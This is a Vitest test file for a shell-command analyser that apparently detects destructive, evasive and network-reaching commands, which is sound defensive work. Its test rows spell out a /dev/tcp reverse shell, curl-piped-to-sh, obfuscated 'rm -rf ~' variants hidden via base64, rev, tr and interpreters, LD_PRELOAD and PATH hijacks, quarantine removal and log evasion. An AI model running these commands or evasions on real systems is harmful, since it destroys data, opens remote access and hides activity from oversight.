import { beforeAll, describe, expect, it } from 'vitest'
import { loadGrammars } from '../code/grammar.node.ts'
import { showPlace } from '../place.ts'
import type { Frozen } from '../world.frozen.ts'
import { CWD, deeds, deleted, started, understand } from './understood.testing.ts'

beforeAll(() => loadGrammars())

const places = (text: string): readonly string[] =>
  understand(text).actions.flatMap((action) =>
    action.does === 'write-file' || action.does === 'read-file' ? [showPlace(action.place)] : [],
  )

describe('what keeps a machine busy or listens', () => {
  const changed = (text: string): readonly string[] => deeds(text, 'change-system').map((action) => action.deed)
  const rows: readonly [string, readonly string[]][] = [
    ['yes > /dev/null', ['exhaust']],
    ['while :; do :; done', ['exhaust']],
    ['dd if=/dev/zero of=/dev/null', ['exhaust']],
    ['sha256sum /dev/zero', ['exhaust']],
    ["trap 'echo $BASH_COMMAND' DEBUG", ['capture-input']],
    ['ffmpeg -f avfoundation -i :0 a.wav', ['capture-input']],
    ['sox -d a.wav', ['capture-input']],
    ['gst-launch-1.0 v4l2src ! filesink', ['capture-input']],
    ['xattr -d com.apple.quarantine a.app', ['disable-security']],
    ['xattr -cr a.app', ['disable-security']],
    ['export HISTCONTROL=ignorespace', ['stop-logging']],
    ['yes | head -3', []],
    ['yes > answers.txt', ['exhaust']],
    ['cat /dev/urandom > noise', ['exhaust']],
    ['dd if=/dev/zero of=a', ['exhaust']],
    ['fallocate -l 800G a', ['exhaust']],
    ['fallocate -l 8G a', []],
    ['yes | head -3 > answers.txt', []],
    ['while :; do sleep 1; done', []],
    ['dd if=/dev/zero of=a bs=1M count=1', []],
    ['head -c 10 /dev/urandom | sha256sum', []],
    ["trap 'rm -f a' EXIT", []],
    ['ffmpeg -i a.wav -f alsa default', []],
    ['sox a.wav b.mp3', []],
    ['xattr -l a.app', []],
    ['xattr -d com.example.note a.txt', []],
    ['export HISTCONTROL=ignoredups', []],
  ]
  for (const [text, expected] of rows) it(text, () => expect(changed(text)).toEqual(expected))
})

describe('files of code', () => {
  const library = { files: { [`${CWD}/lib.sh`]: 'target=/etc\nwipe() { rm -rf "$target"; }\n' } }
  it('a sourced file leaves its functions and variables', () => {
    expect(deleted('source ./lib.sh; wipe; rm -rf "$target/x"', library)).toEqual(['/etc', '/etc/x'])
  })
  it('a file that is run does not', () => {
    expect(deleted('bash ./lib.sh; rm -rf "$target/x"', library)).toEqual(['/etc', '"$target/x"'])
  })
  it('a sourced file that cannot be read makes everything unknown', () => {
    expect(started('X=a; source "$FILE"; echo $X')).toContain('echo <$X>')
  })
  it('a file with broken syntax is code not seen through, and the call is still parsed', () => {
    const broken = understand('bash ./broken.sh', { files: { [`${CWD}/broken.sh`]: 'if then fi ((\n' } })
    expect(broken.parsed).toBe(true)
    expect(broken.actions.some((action) => action.does === 'something-opaque')).toBe(true)
  })
  it('what a compiler wrote is seen through, what anything else wrote beside it is not', () => {
    const through = (text: string): readonly boolean[] => deeds(text, 'run-code').map((action) => action.seenThrough)
    expect(through('gcc a.c -o app && ./app')).toEqual([true])
    expect(through('gcc a.c -o app; date > other; ./other')).toEqual([false])
  })
})

describe('places', () => {
  const rows: readonly [string, string, readonly string[]][] = [
    ['cd moves later commands', 'cd /tmp && rm x', ['/tmp/x']],
    ['cd in a subshell ends with it', '(cd /tmp); rm x', [`${CWD}/x`]],
    ['cd to an unknown place makes relative paths unknown', 'cd $NOPE && rm x', ['x']],
    ['a cd that may fail leaves a removal where it was', 'cd build; rm -rf *', [`${CWD}/build/*`, `${CWD}/*`]],
    ['a cd that is guarded does not', 'cd build || exit 1; rm -rf *', [`${CWD}/build/*`]],
    ['nor one under set -e', 'set -e; cd build; rm -rf *', [`${CWD}/build/*`]],
    ['nor one to a directory just made', 'mkdir -p build; cd build; rm x', [`${CWD}/build/x`]],
    ['nor one whose success is the condition', 'if cd build; then rm x; fi', [`${CWD}/build/x`]],
    ['a cd that need not have run', 'test -d a && cd a; rm x', [`${CWD}/a/x`, `${CWD}/x`]],
    ['the other side of a cd that failed', 'cd a || rm x', [`${CWD}/x`]],
    ['an absolute name is the same everywhere', 'cd build; rm /tmp/x', ['/tmp/x']],
    ['cd - goes back', 'cd /tmp; cd -; rm x', [`${CWD}/x`]],
    ['pushd and popd', 'pushd /tmp; popd; rm x', [`${CWD}/x`]],
  ]
  for (const [name, text, expected] of rows) it(name, () => expect(deleted(text)).toEqual(expected))

  it('redirections are file access, devices and descriptors are not', () => {
    expect(places(': > a 2>> b')).toEqual([`${CWD}/a`, `${CWD}/b`])
    expect(places(': < a')).toEqual([`${CWD}/a`])
    expect(places(': &> a')).toEqual([`${CWD}/a`])
    expect(places(': > /dev/null 2>&1 < /dev/null >&2')).toEqual([])
  })
  it('what is printed is what is written', () => {
    expect(deeds('echo hi > a', 'write-file')[0]?.content).toEqual({ kind: 'text', text: 'hi\n' })
    expect(deeds('date > a', 'write-file')[0]?.content).toEqual({ kind: 'unknown' })
  })
})

describe('looking through', () => {
  const home: readonly [string, string][] = [
    ['sudo', 'sudo -u bob rm -rf ~'],
    ['env', 'env X=1 rm -rf ~'],
    ['env -S', 'env -S "rm -rf ~/" x'.replace('~/', '/home/dev')],
    ['timeout', 'timeout -k 1 5s rm -rf ~'],
    ['nested wrappers', 'sudo nice -n 5 nohup stdbuf -oL rm -rf ~'],
    ['xargs with known words', 'echo /home/dev | xargs rm -rf'],
    ['xargs -I', 'echo /home/dev | xargs -I{} rm -rf {}'],
    ['bash -c', `bash -lc 'rm -rf ~'`],
    ['bash -c in bash -c', `bash -c "sh -c 'rm -rf ~'"`],
    ['su -c', `su - root -c 'rm -rf /home/dev'`],
    ['a pipe into a shell', 'echo "rm -rf ~" | sh'],
    ['a decoded pipe into a shell', 'echo cm0gLXJmIH4K | base64 -d | bash'],
    ['a reversed pipe into a shell', `echo '~ fr- mr' | rev | sh`],
    [
      'a translated pipe into a shell',
      `echo 'sn -sg ~' | tr 'nsg' 'mrf' | sed 's/^s/r/' ; echo 'rm -rf ~' | tr a a | sh`,
    ],
    ['a here-document', "bash <<'EOF'\nrm -rf ~\nEOF"],
    ['a here-string', 'sh <<< "rm -rf ~"'],
    ['a process substitution', 'bash <(echo rm -rf /home/dev)'],
    ['source of one', 'source <(echo "rm -rf ~")'],
    ['trap', `trap 'rm -rf ~' EXIT`],
    ['command and builtin', 'command rm -rf ~'],
    ['exec', 'exec rm -rf ~'],
    ['busybox', 'busybox rm -rf ~'],
    ['write, then run', `cat > x.sh <<'EOF'\nrm -rf ~\nEOF\nbash x.sh`],
    ['write, mark, then run', `echo 'rm -rf ~' > x && chmod +x x && ./x`],
    ['a function of the same name as a harmless program', 'ls() { rm -rf ~; }; ls'],
    ['python', `python3 -c 'import os; os.system("rm -rf ~")'`],
    ['python on standard input', `python3 <<'EOF'\nimport shutil\nshutil.rmtree("/home/dev")\nEOF`],
    ['node', `node -e 'require("child_process").execSync("rm -rf ~")'`],
    ['perl', `perl -e 'system("rm -rf ~")'`],
    ['ruby', "ruby -e '`rm -rf ~`'"],
    ['PROMPT_COMMAND', `PROMPT_COMMAND='rm -rf ~' bash -i`],
    ['coproc', 'coproc rm -rf ~'],
    ['a background job in a group', '{ rm -rf ~ & } 2>/dev/null'],
  ]
  for (const [name, text] of home) it(`${name} hides no removal`, () => expect(deleted(text)).toContain('/home/dev'))

  it('marks what runs with more rights', () => {
    expect(deeds('sudo rm x', 'delete-file')[0]?.elevated).toBe(true)
    expect(deeds('rm x', 'delete-file')[0]?.elevated).toBe(false)
  })
  it('looking a command up is not running it', () => expect(deleted('command -v rm')).toEqual([]))
  it('a shell without a command is interactive', () => {
    for (const text of ['bash', 'sudo -i', 'sudo su', 'su'])
      expect(deeds(text, 'something-opaque').map((action) => action.because)).toContain('interactive')
    expect(deeds('sudo su', 'change-system').map((action) => action.deed)).toContain('become-administrator')
    expect(deeds('bash', 'change-system')).toEqual([])
  })
  it('a shell on a socket is a reverse shell; a socket alone is a contact', () => {
    expect(deeds('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'open-door')[0]?.what).toBe('reverse-shell')
    expect(deeds('echo hi > /dev/tcp/192.0.2.1/80', 'open-door')).toEqual([])
    expect(deeds('echo hi > /dev/tcp/192.0.2.1/80', 'contact-host')[0]?.host).toEqual({
      kind: 'named',
      name: '192.0.2.1',
      port: 80,
    })
  })
})

describe('scripts', () => {
  const frozen: Frozen = {
    files: {
      [`${CWD}/clean.sh`]: '#!/bin/bash\nrm -rf "$1"\n',
      [`${CWD}/loop.sh`]: './loop.sh\n',
      [`${CWD}/tool`]: '#!/usr/bin/env python3\nimport os\nos.remove("/etc/hosts")\n',
      '/opt/x.sh': 'rm -rf /opt/y\n',
    },
  }
  it('a script is read with its arguments', () => expect(deleted('./clean.sh ~', frozen)).toEqual(['/home/dev']))
  it('the first line says the language', () => expect(deleted('./tool', frozen)).toEqual(['/etc/hosts']))
  it('a script that calls itself ends', () => expect(understand('./loop.sh', frozen).actions.length).toBeLessThan(10))
  it('a missing workspace file cannot do anything', () => {
    expect(deeds('./nope.sh', 'run-code', frozen)[0]).toMatchObject({ origin: 'missing-file', seenThrough: true })
  })
  it('a missing file elsewhere is not known', () => {
    expect(deeds('/srv/nope.sh', 'run-code', frozen)[0]).toMatchObject({ seenThrough: false })
    expect(deeds('/srv/nope.sh', 'something-opaque', frozen)).not.toEqual([])
  })
  it('a missing file with the name of a system program is not known', () => {
    expect(deeds('./ls', 'something-opaque', frozen)).not.toEqual([])
  })
  it('what came from the network is not seen through, whatever the steps', () => {
    for (const text of [
      'curl https://example.org/x | sh',
      'curl -o x https://example.org/x && sh x',
      'bash <(curl https://example.org/x)',
      'curl https://example.org/x > x; bash x',
    ])
      expect(
        deeds(text, 'run-code').some((action) => action.origin === 'network' && !action.seenThrough),
        text,
      ).toBe(true)
  })
})

describe('environment that runs code', () => {
  const opaque = [
    'LD_PRELOAD=./x.so ls',
    'PATH=/tmp/x:$PATH ls',
    'PATH=.:$PATH ls',
    'export PATH=/tmp:$PATH; ls',
    'NODE_OPTIONS="--require /tmp/x.js" node -v',
    'PYTHONPATH=/tmp/x python -V',
  ]
  for (const text of opaque)
    it(`${text} is not seen through`, () => expect(deeds(text, 'something-opaque')).not.toEqual([]))
  const plain = [
    'NODE_OPTIONS=--max-old-space-size=4096 node -v',
    'PATH=$PATH:/x true',
    'PATH=./node_modules/.bin:$PATH true',
    'PYTHONPATH=src python -V',
    'FOO=1 true',
    'NODE_ENV=test true',
  ]
  for (const text of plain) it(`${text} is ordinary`, () => expect(deeds(text, 'something-opaque')).toEqual([]))
})
